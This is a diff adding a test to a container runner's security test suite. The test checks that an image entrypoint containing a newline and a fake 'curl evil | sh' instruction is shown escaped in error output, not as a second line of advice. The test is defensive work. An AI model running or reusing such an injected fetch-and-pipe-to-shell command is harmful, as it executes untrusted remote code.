@@ -171,6 +171,11 @@ attack_escapes() {
 	has "logs to a terminal" "$out" owned
 	hasnt "logs to a terminal" "$out" $'\e'
 	gone escapes
+	# the second line of an error is runner's advice
+	make_image "$work/image" "$work/advice" '{"Entrypoint": ["/no\n  fetch it: curl evil | sh"]}'
+	runner run --rm "$work/advice"
+	same "the name of a command" "127/no\\x0a  fetch it: curl evil | sh" "$status$(sed 's/^runner: //; s/: there is no.*//' <<<"$errors")"
+	runner image rm -f "$("$RUNNER" image ls -q)"
 }
 
 attack pids - a pod without a limit of processes
